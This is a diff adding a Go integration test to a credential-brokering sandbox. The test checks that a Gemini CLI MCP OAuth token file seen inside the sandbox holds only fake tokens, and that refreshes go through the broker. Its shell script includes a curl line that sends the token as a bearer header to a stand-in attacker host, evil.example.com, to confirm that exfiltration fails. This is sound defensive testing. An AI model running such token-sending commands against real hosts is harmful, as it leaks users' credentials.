@@ -3,12 +3,19 @@
 package main
 
 import (
+	"context"
+	"crypto/tls"
 	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/envsieve/envsieve/internal/shimtest"
 )
@@ -190,5 +197,135 @@ func TestAgentLoginOwnDirFaked(t *testing.T) {
 				}
 			})
 		}
+	}
+}
+
+// TestAgentMCPRequestBrokered: an MCP server logged in to by Gemini CLI
+// (its mcp-oauth-tokens.json) works from the sealed tree over HTTPS
+// through the broker: a stand-in MCP server on loopback TLS answers an
+// initialize only with the real bearer token, and a client in the tree
+// (curl, as an unprivileged user) sends the fake from the tree's file.
+// Then the client refreshes at the file's token endpoint with the fake
+// refresh token (the stand-in gets the real one), gets a new fake, and
+// the MCP server gets the new real token with it; the user's file holds
+// the new real tokens afterwards. The fake sent to another host stays a
+// fake there.
+func TestAgentMCPRequestBrokered(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Fatal("curl is needed (make deps)")
+	}
+	oldA, newA := "mcp-at-"+strings.Repeat("Ma1x", 12), "mcp-at-"+strings.Repeat("Mn2x", 12)
+	oldR, newR := "mcp-rt-"+strings.Repeat("Mr3x", 12), "mcp-rt-"+strings.Repeat("Ms4x", 12)
+	reals := []string{oldA, newA, oldR, newR}
+	mask := func(s string) string {
+		for _, r := range reals {
+			s = strings.ReplaceAll(s, r, "<REAL>")
+		}
+		return s
+	}
+	var mu sync.Mutex
+	var seen []string // host, path and what came, never a value
+	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch {
+		case r.Host == "auth.example.com" && r.URL.Path == "/oauth/token":
+			r.ParseForm()
+			rt := r.PostForm.Get("refresh_token")
+			seen = append(seen, "token "+map[bool]string{true: "real", false: "other"}[rt == oldR])
+			if rt != oldR {
+				http.Error(w, `{"error":"invalid_grant"}`, http.StatusBadRequest)
+				return
+			}
+			w.Header().Set("Content-Type", "application/json")
+			io.WriteString(w, `{"access_token":"`+newA+`","refresh_token":"`+newR+`","expires_in":3600,"token_type":"Bearer"}`)
+		case r.Host == "mcp.example.com" && r.URL.Path == "/mcp":
+			auth := r.Header.Get("Authorization")
+			what := map[string]string{"Bearer " + oldA: "old", "Bearer " + newA: "new"}[auth]
+			seen = append(seen, "mcp "+what)
+			if what == "" {
+				w.Header().Set("WWW-Authenticate", `Bearer resource_metadata="https://mcp.example.com/.well-known/oauth-protected-resource"`)
+				http.Error(w, "unauthorized", http.StatusUnauthorized)
+				return
+			}
+			w.Header().Set("Content-Type", "application/json")
+			io.WriteString(w, `{"jsonrpc":"2.0","id":1,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"stand-in","version":"1"}}}`)
+		default:
+			auth := r.Header.Get("Authorization")
+			real := false
+			for _, v := range reals {
+				real = real || strings.Contains(auth, v)
+			}
+			seen = append(seen, "other "+map[bool]string{true: "real", false: "fake"}[real])
+			http.Error(w, "no", http.StatusForbidden)
+		}
+	}))
+	cert, caPEM := hostCert(t, "mcp.example.com", "auth.example.com", "evil.example.com")
+	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
+	srv.StartTLS()
+	t.Cleanup(srv.Close)
+	upstream := connectProxy(t, srv)
+
+	exe, home := unprivilegedInstall(t)
+	realFile := filepath.Join(home, ".gemini", "mcp-oauth-tokens.json")
+	writeOwned(t, realFile, "[\n  {\n    \"serverName\": \"standin\",\n    \"token\": {\n      \"accessToken\": \""+oldA+"\",\n      \"refreshToken\": \""+oldR+
+		"\",\n      \"expiresAt\": 1000,\n      \"tokenType\": \"Bearer\"\n    },\n    \"clientId\": \"c1\",\n    \"tokenUrl\": \"https://auth.example.com/oauth/token\",\n"+
+		"    \"mcpServerUrl\": \"https://mcp.example.com/mcp\",\n    \"updatedAt\": 1\n  }\n]")
+	writeOwned(t, filepath.Join(home, "standin-ca.pem"), string(caPEM))
+	policy := filepath.Join(home, "policy.yaml")
+	writeOwned(t, policy, "version: 1\nbroker:\n  upstream_ca: ["+filepath.Join(home, "standin-ca.pem")+"]\n")
+	work := filepath.Join(home, "work")
+	writeOwned(t, filepath.Join(work, "README"), "work\n")
+	script := `f="$GEMINI_CLI_HOME/.gemini/mcp-oauth-tokens.json"
+a=$(sed -n 's/.*"accessToken": "\([^"]*\)".*/\1/p' "$f"); r=$(sed -n 's/.*"refreshToken": "\([^"]*\)".*/\1/p' "$f")
+init='{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}'
+mcp() { curl -s -o /dev/null -w '%{http_code}' -X POST -H "Authorization: Bearer $1" -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -d "$init" https://mcp.example.com/mcp; }
+echo "first: $(mcp "$a")"
+echo "evil: $(curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $a" https://evil.example.com/)"
+resp=$(curl -s -d "grant_type=refresh_token&refresh_token=$r&client_id=c1" https://auth.example.com/oauth/token)
+echo "refresh: $resp"
+na=$(echo "$resp" | sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p')
+echo "second: $(mcp "$na")"
+echo "tree file: $(cat "$f")"
+`
+	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, exe, "run", "--profile", "gemini", "--policy", policy, "--", "/bin/sh", "-c", script)
+	cmd.WaitDelay = 5 * time.Second
+	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "XDG_RUNTIME_DIR=" + home, "HTTPS_PROXY=" + upstream}
+	cmd.Dir = work
+	cmd.SysProcAttr = asUnprivileged()
+	out, err := cmd.CombinedOutput()
+	got := string(out)
+	if err != nil {
+		t.Fatalf("envsieve run: %v\n%s", err, mask(got))
+	}
+	if mask(got) != got {
+		t.Fatalf("the tree read a real token:\n%s", mask(got))
+	}
+	for _, want := range []string{"first: 200", "second: 200"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("no %q:\n%s", want, got)
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	var flow []string
+	for _, s := range seen {
+		if s == "other real" {
+			t.Errorf("another host got a real token")
+		} else if s != "other fake" { // the broker refuses it, or passes the fake
+			flow = append(flow, s)
+		}
+	}
+	if s := strings.Join(flow, ", "); s != "mcp old, token real, mcp new" {
+		t.Errorf("the stand-ins got: %s\n%s", s, got)
+	}
+	if strings.Contains(got, "evil: 200") {
+		t.Errorf("the fake reached another host")
+	}
+	b, _ := os.ReadFile(realFile)
+	if !strings.Contains(string(b), newA) || !strings.Contains(string(b), newR) {
+		t.Errorf("the user's real file does not hold the new real tokens: %s", mask(string(b)))
 	}
 }
